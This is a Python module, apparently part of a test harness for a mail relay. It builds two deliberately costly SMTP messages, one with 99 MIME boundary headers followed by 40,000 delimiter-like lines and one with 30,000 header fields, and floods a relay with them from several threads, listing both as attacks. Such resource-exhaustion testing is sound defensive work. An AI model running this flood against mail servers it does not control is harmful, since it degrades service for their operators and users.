"""Messages with expensive lines: 99 boundaries, then lines that begin like a delimiter. And messages of many fields, 24 at a time from one sender."""
import threading
import time

from frame.clients import close_all, read_reply, send_all, transaction

BOUNDARIES = b"".join(b'X-B%d: a; boundary="%s%02d"\r\n' % (i, b"b" * 60, i) for i in range(99))
DELIMITERS = b"From: h@hostile.test\r\n" + BOUNDARIES + b"\r\n" + (b"--" + b"b" * 60 + b"\r\n") * 40_000 + b".\r\n"
FIELDS = b"From: h@hostile.test\r\n" + b"a:b\r\n" * 30_000 + b"\r\nx\r\n.\r\n"


def flood(relay, seconds, mail, clients):
    deadline = time.monotonic() + seconds

    def client(number):
        while time.monotonic() < deadline:
            connection = transaction(relay, number, of=1)
            if connection:
                send_all([connection], mail, deadline)
                connection.settimeout(max(0.1, deadline - time.monotonic()))
                try:
                    read_reply(connection)
                except OSError:
                    pass
                close_all([connection])

    threads = [threading.Thread(target=client, args=(number,), daemon=True) for number in range(clients)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def delimiters(relay, seconds):
    flood(relay, seconds, DELIMITERS, 4)


def fields(relay, seconds):
    flood(relay, seconds, FIELDS, 24)


ATTACKS = [("costly-delimiters", delimiters), ("costly-fields", fields)]
